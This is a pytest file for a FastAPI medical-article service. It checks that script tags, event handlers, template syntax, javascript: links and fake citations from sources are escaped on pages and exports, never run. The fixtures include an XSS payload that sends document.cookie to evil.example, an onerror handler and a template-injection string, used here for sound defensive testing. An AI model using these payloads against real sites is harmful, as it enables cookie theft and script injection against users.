"""Hostile text inside a source (script, event handlers, template syntax, fake citations) is shown
as text on every page and export that carries it, never run or evaluated."""

from __future__ import annotations

from fastapi import FastAPI
from fastapi.testclient import TestClient

from curbside.domain.article import Reference, Section, Statement, Verdict
from tests.review.samples import QUESTION, article

SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
HANDLER = '<img src=x onerror="alert(1)">'
TEMPLATE = "{{ 7 * 7 }} {% if true %}evaluated{% endif %}"
FAKE_CITE = "[P9] World Health Organization (2024) [12]"


def _hostile_slug(app: FastAPI) -> str:
    base = article()
    text = f"{SCRIPT} Weight loss lowers blood pressure. {HANDLER} {TEMPLATE} {FAKE_CITE}"
    statement = Statement(text=text, citations=(1,), verdict=Verdict.SUPPORTED, support=0.9)
    reference = base.references[0].model_copy(
        update={"quote": text, "title": f"Leaflet {SCRIPT}", "url": "javascript:alert(1)"}
    )
    hostile = base.model_copy(
        update={
            "bottom_line": statement,
            "sections": (Section(heading=f"Options {HANDLER}", kind="options", statements=(statement,)),),
            "references": (Reference.model_validate(reference.model_dump()),),
        }
    )
    stored = app.state.services.repository.create(hostile, QUESTION)
    slug: str = stored.slug
    return slug


def test_the_article_page_escapes_source_text(app: FastAPI, client: TestClient) -> None:
    slug = _hostile_slug(app)
    for audience in ("clinician", "patient"):
        page = client.get(f"/a/{slug}?audience={audience}")
        assert page.status_code == 200
        html = page.text
        assert "<script>fetch" not in html and "&lt;script&gt;fetch" in html
        assert "<img src=x" not in html and 'onerror="alert' not in html
        assert "{{ 7 * 7 }}" in html and "evaluated{%" in html and ">49<" not in html
        assert 'href="javascript:' not in html
        assert "[P9] World Health Organization" in html  # shown as the source's text, not as a citation


def test_json_and_fhir_carry_the_text_verbatim_as_data(app: FastAPI, client: TestClient) -> None:
    slug = _hostile_slug(app)
    body = client.get(f"/api/articles/{slug}").json()
    assert SCRIPT in body["bottom_line"]["text"]
    assert [r["n"] for r in body["references"]] == [1]  # "[12]" in the text made no reference
    fhir = client.get(f"/a/{slug}/export.fhir.json")
    assert fhir.status_code == 200 and fhir.headers["content-type"].startswith("application/")


def test_the_review_screen_escapes_source_text(app: FastAPI) -> None:
    from curbside.review.accounts import Role
    from tests.web.review_client import log_in

    slug = _hostile_slug(app)
    html = log_in(app, Role.REVIEWER).client.get(f"/review/{slug}").text
    assert "<script>fetch" not in html and "&lt;script&gt;fetch" in html
    assert 'href="javascript:' not in html and "<img src=x" not in html
